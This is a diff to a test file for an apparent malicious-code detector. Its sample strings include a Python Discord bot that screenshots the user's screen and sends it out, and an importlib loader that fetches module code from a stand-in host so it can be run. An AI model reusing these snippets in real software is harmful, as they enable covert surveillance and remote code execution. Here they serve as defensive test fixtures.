@@ -35,3 +35,9 @@ test('what a client gives to its heir is asked for more', async () => {
   const text = 'import discord\nfrom PIL import ImageGrab\nclass Gardener(discord.Client):\n    async def on_ready(self):\n        await self.get_channel(1).send(file=discord.File(ImageGrab.grab(), "s.png"))\nGardener().run("x")\n';
   expect(await found(text)).toContain('Watches keyboard, screen or clipboard next to a line to the network');
 });
+
+test('a loader that is put into a spec gives what importlib runs', async () => {
+  const loader = 'import importlib.abc, importlib.machinery\nfrom urllib.request import urlopen\nclass Garden(importlib.abc.SourceLoader):\n    def get_filename(self, name):\n        return name\n    def get_data(self, path):\n        return urlopen("https://garden.example.invalid/").read()\nspec = importlib.machinery.ModuleSpec("garden", None)\n';
+  expect(await found(`${loader}spec.loader = Garden()\n`)).toContain('Fetches a program from the network and runs it');
+  expect(await found(`${loader}spec.origin = Garden()\n`)).toEqual([]);
+});
